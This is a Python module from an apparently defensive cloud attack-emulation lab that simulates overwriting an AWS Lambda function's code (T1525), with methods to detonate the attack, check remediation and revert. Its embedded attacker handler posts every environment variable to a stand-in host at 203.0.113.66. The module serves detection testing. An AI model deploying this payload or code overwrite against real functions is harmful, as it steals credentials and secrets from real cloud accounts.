"""lambda-overwrite-code: replace a function's code with the attacker's (T1525)."""

from __future__ import annotations

from pathlib import Path

from lab.attacks.base import Prerequisites
from lab.attacks.lambda_function import (
    LabFunctionTechnique,
    deploy_package,
    function_configuration,
    zipped,
)
from lab.emulator.endpoints import Endpoints

ATTACKER_CODE = (
    "import os, urllib.request\n"
    "def handler(event, context):\n"
    "    urllib.request.urlopen('http://203.0.113.66/c', data=repr(dict(os.environ)).encode())\n"
)


class LambdaOverwriteCode(LabFunctionTechnique):
    folder = Path(__file__).parent

    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        endpoints.client("lambda", "attacker").update_function_code(
            FunctionName=prerequisites["function"], ZipFile=zipped(ATTACKER_CODE)
        )

    def is_remediated(self, endpoints: Endpoints, prerequisites: Prerequisites) -> bool:
        """The deployed code is the original package again (same SHA-256)."""
        configuration = function_configuration(
            endpoints.client("lambda", "observer"), prerequisites["function"]
        )
        return configuration is None or configuration["CodeSha256"] == prerequisites["code_sha256"]

    def revert(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        if not self.is_remediated(endpoints, prerequisites):
            deploy_package(endpoints, prerequisites)


TECHNIQUE = LambdaOverwriteCode
